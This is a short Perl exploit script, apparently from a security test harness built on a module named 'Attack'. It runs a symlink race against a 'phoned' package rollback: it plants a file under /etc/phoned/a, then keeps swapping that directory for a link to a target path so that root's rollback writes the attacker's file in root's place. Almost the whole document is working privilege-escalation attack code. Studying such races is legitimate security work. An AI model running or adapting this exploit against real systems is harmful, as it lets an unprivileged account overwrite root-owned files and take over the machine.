# Has a file /etc/phoned/a/PATH with content of its own, and swaps /etc/phoned/a for a link to TOP once the packages have changed, again and
# again. A rollback that follows the link writes the account's file in the place of root's.
use strict;
use warnings;
use Attack;

my ($top, $path) = @ARGV;
my $own = '/etc/phoned/a';
directory("$own/" . ($path =~ s{/[^/]*$}{}r));
write_file("$own/$path", "phoned was here\n");
ready();
wait_for { upgraded() };
my $number = 0;
until (over()) {
    # A rollback makes the directory again, and gives it to the account.
    next if -l $own || !-d $own;
    rename $own, "/etc/phoned/old-" . $number++ or next;
    symlink $top, $own or next;
    tried();
}
